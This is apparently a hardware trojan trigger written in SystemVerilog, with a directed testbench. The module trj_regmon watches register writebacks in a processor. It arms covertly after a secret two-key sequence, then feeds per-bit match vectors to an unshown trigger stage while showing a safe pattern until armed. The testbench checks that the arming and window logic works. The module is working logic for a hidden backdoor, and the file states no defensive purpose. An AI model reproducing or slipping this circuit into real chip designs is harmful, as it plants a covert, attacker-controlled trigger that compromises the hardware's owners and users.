// File: rtl/trj_regmon.sv
// trj_regmon: register-writeback monitor feeding the trigger stage.
// Snoops integer writebacks to one register, arms after a KEY_A/KEY_B
// sequence, then shadows that register and presents per-bit match vectors
// against MATCH_VAL. Outputs hold a safe pattern until armed.
// Optional feature: define TRJ_REGMON_ONESHOT_EN to disarm after one full match.
module trj_regmon #(
  parameter logic [4:0]  REG_ADDR  = 5'd10,
  parameter logic [63:0] KEY_A     = 64'hA5A5_0000_DEAD_0001,
  parameter logic [63:0] KEY_B     = 64'h5A5A_FFFF_BEEF_0002,
  parameter logic [63:0] MATCH_VAL = 64'hFFFF_FFFF_FFFF_FFFF,
  parameter int unsigned WINDOW    = 16
) (
  input  logic        clk,
  input  logic        rst_ni,
  input  logic        wb_valid_i,
  input  logic [4:0]  wb_addr_i,
  input  logic [63:0] wb_data_i,
  input  logic        flush_i,
  output logic [63:0] regBits1,
  output logic [63:0] regBits0,
  output logic        armed_o
);

  typedef enum logic [1:0] {
    IDLE  = 2'd0,
    GOT_A = 2'd1,
    ARMED = 2'd2
  } state_e;

  localparam logic [7:0] WIN_LOAD = 8'(WINDOW - 1);

  state_e      state_q, state_d;
  logic [7:0]  win_q, win_d;
  logic [63:0] shadow_q, shadow_d;
  logic        hit;

  // x0 writes are architecturally discarded, so they never count as hits
  assign hit = wb_valid_i && (wb_addr_i == REG_ADDR) && (wb_addr_i != 5'd0);

  // Next-state logic: key sequence, window countdown and shadow capture
  always_comb begin
    state_d  = state_q;
    win_d    = win_q;
    shadow_d = shadow_q;
    case (state_q)
      IDLE: begin
        if (hit && (wb_data_i == KEY_A)) begin
          state_d = GOT_A;
          win_d   = WIN_LOAD;
        end
      end
      GOT_A: begin
        if (flush_i) begin
          state_d = IDLE;
        end else if (hit && (wb_data_i == KEY_B)) begin
          state_d  = ARMED;
          shadow_d = ~MATCH_VAL;
        end else if (hit && (wb_data_i == KEY_A)) begin
          win_d = WIN_LOAD;
        end else if (hit) begin
          state_d = IDLE;
        end else if (win_q == 8'd0) begin
          state_d = IDLE;
        end else begin
          win_d = win_q - 8'd1;
        end
      end
      ARMED: begin
`ifdef TRJ_REGMON_ONESHOT_EN
        if (shadow_q == MATCH_VAL) begin
          state_d  = IDLE;
          shadow_d = ~MATCH_VAL;
        end else if (hit) begin
          shadow_d = wb_data_i;
        end
`else
        if (hit) begin
          shadow_d = wb_data_i;
        end
`endif
      end
      default: begin
        state_d = IDLE;
      end
    endcase
  end

  // State, window counter and shadow registers with asynchronous reset
  always_ff @(posedge clk or negedge rst_ni) begin
    if (!rst_ni) begin
      state_q  <= IDLE;
      win_q    <= 8'd0;
      shadow_q <= ~MATCH_VAL;
    end else begin
      state_q  <= state_d;
      win_q    <= win_d;
      shadow_q <= shadow_d;
    end
  end

  // Outputs decode only from registered state; safe pattern unless armed
  always_comb begin
    armed_o  = (state_q == ARMED);
    regBits1 = 64'd0;
    if (armed_o) begin
      regBits1 = ~(shadow_q ^ MATCH_VAL);
    end
    regBits0 = ~regBits1;
  end

endmodule

// File: tb/tb_trj_regmon.sv
// tb_trj_regmon: directed vector bench for trj_regmon with default parameters.
module tb_trj_regmon;

  localparam logic [63:0] KA   = 64'hA5A5_0000_DEAD_0001;
  localparam logic [63:0] KB   = 64'h5A5A_FFFF_BEEF_0002;
  localparam logic [63:0] ONES = 64'hFFFF_FFFF_FFFF_FFFF;
  localparam logic [63:0] FE   = 64'hFFFF_FFFF_FFFF_FFFE;

  logic        clk;
  logic        rst_ni;
  logic        wb_valid_i;
  logic [4:0]  wb_addr_i;
  logic [63:0] wb_data_i;
  logic        flush_i;
  logic [63:0] regBits1;
  logic [63:0] regBits0;
  logic        armed_o;

  int n_vec;
  int n_err;

  typedef struct {
    logic        valid;
    logic [4:0]  addr;
    logic [63:0] data;
    logic        flush;
    logic        exp_armed;
    logic [63:0] exp_r1;
  } vec_t;

  vec_t vecs[18];

  trj_regmon dut (
    .clk        (clk),
    .rst_ni     (rst_ni),
    .wb_valid_i (wb_valid_i),
    .wb_addr_i  (wb_addr_i),
    .wb_data_i  (wb_data_i),
    .flush_i    (flush_i),
    .regBits1   (regBits1),
    .regBits0   (regBits0),
    .armed_o    (armed_o)
  );

  initial clk = 1'b0;
  always #5 clk = ~clk;

  function automatic vec_t mk(input logic v, input logic [4:0] a, input logic [63:0] d,
                              input logic f, input logic ea, input logic [63:0] er1);
    vec_t r;
    r.valid = v; r.addr = a; r.data = d; r.flush = f;
    r.exp_armed = ea; r.exp_r1 = er1;
    return r;
  endfunction

  task automatic check_output(input string name, input logic exp_armed, input logic [63:0] exp_r1);
    n_vec++;
    if (armed_o !== exp_armed) begin
      n_err++;
      $display("[TB] FAIL %s armed_o: got %b want %b", name, armed_o, exp_armed);
    end
    n_vec++;
    if (regBits1 !== exp_r1) begin
      n_err++;
      $display("[TB] FAIL %s regBits1: got %h want %h", name, regBits1, exp_r1);
    end
    n_vec++;
    if (regBits0 !== ~exp_r1) begin
      n_err++;
      $display("[TB] FAIL %s regBits0: got %h want %h", name, regBits0, ~exp_r1);
    end
  endtask

  // Drive one cycle of inputs, then step to just after the capturing edge
  task automatic apply_stimulus(input logic v, input logic [4:0] a, input logic [63:0] d, input logic f);
    wb_valid_i = v;
    wb_addr_i  = a;
    wb_data_i  = d;
    flush_i    = f;
    @(posedge clk);
    #1;
    wb_valid_i = 1'b0;
    wb_addr_i  = 5'd0;
    wb_data_i  = 64'd0;
    flush_i    = 1'b0;
  endtask

  task automatic do_reset();
    rst_ni = 1'b0;
    @(posedge clk);
    #1;
    rst_ni = 1'b1;
  endtask

  task automatic idle_cycles(input int n);
    for (int k = 0; k < n; k++) apply_stimulus(1'b0, 5'd0, 64'd0, 1'b0);
  endtask

  initial begin
    n_vec = 0;
    n_err = 0;
    wb_valid_i = 1'b0;
    wb_addr_i  = 5'd0;
    wb_data_i  = 64'd0;
    flush_i    = 1'b0;
    rst_ni     = 1'b1;
    #2;
    rst_ni = 1'b0;
    #1;
    check_output("reset_state", 1'b0, 64'd0);
    @(posedge clk);
    #1;
    rst_ni = 1'b1;

    vecs[0]  = mk(1'b0, 5'd10, KA,    1'b0, 1'b0, 64'd0);
    vecs[1]  = mk(1'b1, 5'd11, KA,    1'b0, 1'b0, 64'd0);
    vecs[2]  = mk(1'b1, 5'd11, KB,    1'b0, 1'b0, 64'd0);
    vecs[3]  = mk(1'b1, 5'd10, KA,    1'b0, 1'b0, 64'd0);
    vecs[4]  = mk(1'b1, 5'd10, KB,    1'b1, 1'b0, 64'd0);
    vecs[5]  = mk(1'b1, 5'd10, KB,    1'b0, 1'b0, 64'd0);
    vecs[6]  = mk(1'b1, 5'd10, KA,    1'b0, 1'b0, 64'd0);
    vecs[7]  = mk(1'b1, 5'd10, 64'h1234, 1'b0, 1'b0, 64'd0);
    vecs[8]  = mk(1'b1, 5'd10, KB,    1'b0, 1'b0, 64'd0);
    vecs[9]  = mk(1'b1, 5'd10, KA,    1'b0, 1'b0, 64'd0);
    vecs[10] = mk(1'b1, 5'd10, KA,    1'b0, 1'b0, 64'd0);
    vecs[11] = mk(1'b1, 5'd10, KB,    1'b0, 1'b1, 64'd0);
    vecs[12] = mk(1'b0, 5'd10, ONES,  1'b1, 1'b1, 64'd0);
    vecs[13] = mk(1'b1, 5'd10, FE,    1'b0, 1'b1, FE);
    vecs[14] = mk(1'b1, 5'd11, ONES,  1'b0, 1'b1, FE);
    vecs[15] = mk(1'b0, 5'd10, ONES,  1'b0, 1'b1, FE);
    vecs[16] = mk(1'b1, 5'd10, ONES,  1'b0, 1'b1, ONES);
`ifdef TRJ_REGMON_ONESHOT_EN
    vecs[17] = mk(1'b1, 5'd10, ONES,  1'b0, 1'b0, 64'd0);
`else
    vecs[17] = mk(1'b0, 5'd10, 64'd0, 1'b0, 1'b1, ONES);
`endif

    for (int i = 0; i < 18; i++) begin
      apply_stimulus(vecs[i].valid, vecs[i].addr, vecs[i].data, vecs[i].flush);
      check_output($sformatf("vec%0d", i), vecs[i].exp_armed, vecs[i].exp_r1);
    end

    // Arm-path latency: KEY_B hit is not visible until after the edge
    do_reset();
    check_output("rst_again", 1'b0, 64'd0);
    apply_stimulus(1'b1, 5'd10, KA, 1'b0);
    idle_cycles(3);
    wb_valid_i = 1'b1; wb_addr_i = 5'd10; wb_data_i = KB;
    #1;
    check_output("no_comb_path", 1'b0, 64'd0);
    @(posedge clk);
    #1;
    wb_valid_i = 1'b0;
    check_output("armed_next", 1'b1, 64'd0);
    idle_cycles(5);
    apply_stimulus(1'b1, 5'd10, ONES, 1'b0);
    check_output("full_match", 1'b1, ONES);
`ifdef TRJ_REGMON_ONESHOT_EN
    idle_cycles(1);
    check_output("oneshot_drop", 1'b0, 64'd0);
`else
    idle_cycles(3);
    check_output("full_hold", 1'b1, ONES);
`endif

    // Window edge: KEY_B exactly WINDOW cycles after KEY_A still arms
    do_reset();
    apply_stimulus(1'b1, 5'd10, KA, 1'b0);
    idle_cycles(15);
    apply_stimulus(1'b1, 5'd10, KB, 1'b0);
    check_output("window_last", 1'b1, 64'd0);

    // Window expiry: one cycle later is too late
    do_reset();
    apply_stimulus(1'b1, 5'd10, KA, 1'b0);
    idle_cycles(16);
    apply_stimulus(1'b1, 5'd10, KB, 1'b0);
    check_output("window_expired", 1'b0, 64'd0);

    // Writes to x0 never hit
    apply_stimulus(1'b1, 5'd0, KA, 1'b0);
    apply_stimulus(1'b1, 5'd10, KB, 1'b0);
    check_output("x0_ignored", 1'b0, 64'd0);

    // Async reset mid-cycle while a full match is displayed
    do_reset();
    apply_stimulus(1'b1, 5'd10, KA, 1'b0);
    apply_stimulus(1'b1, 5'd10, KB, 1'b0);
    apply_stimulus(1'b1, 5'd10, ONES, 1'b0);
    check_output("pre_async", 1'b1, ONES);
    #1;
    rst_ni = 1'b0;
    #1;
    check_output("async_reset", 1'b0, 64'd0);
    @(posedge clk);
    #1;
    rst_ni = 1'b1;
    idle_cycles(1);
    check_output("post_reset_idle", 1'b0, 64'd0);

    $display("== %0d vectors applied, %0d miscompares ==", n_vec, n_err);
    $finish;
  end

endmodule
